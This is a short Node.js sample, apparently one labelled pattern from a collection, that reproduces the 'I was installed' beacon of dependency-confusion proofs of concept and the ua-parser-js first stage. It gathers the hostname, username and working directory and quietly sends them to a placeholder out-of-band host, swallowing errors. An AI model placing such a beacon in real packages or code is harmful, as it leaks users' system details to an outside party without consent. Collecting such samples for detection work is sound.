// P6 in Node: the "I was installed" beacon of dependency-confusion PoCs and of ua-parser-js's first
// stage, to an out-of-band interaction (OAST / webhook) style name under a reserved domain.
const http = require('http');
const os = require('os');
const q = new URLSearchParams({ h: os.hostname(), u: os.userInfo().username, p: process.cwd() });
http.get(`http://c8k2x9d7f3.oast.invalid/i?${q}`, (res) => res.resume()).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
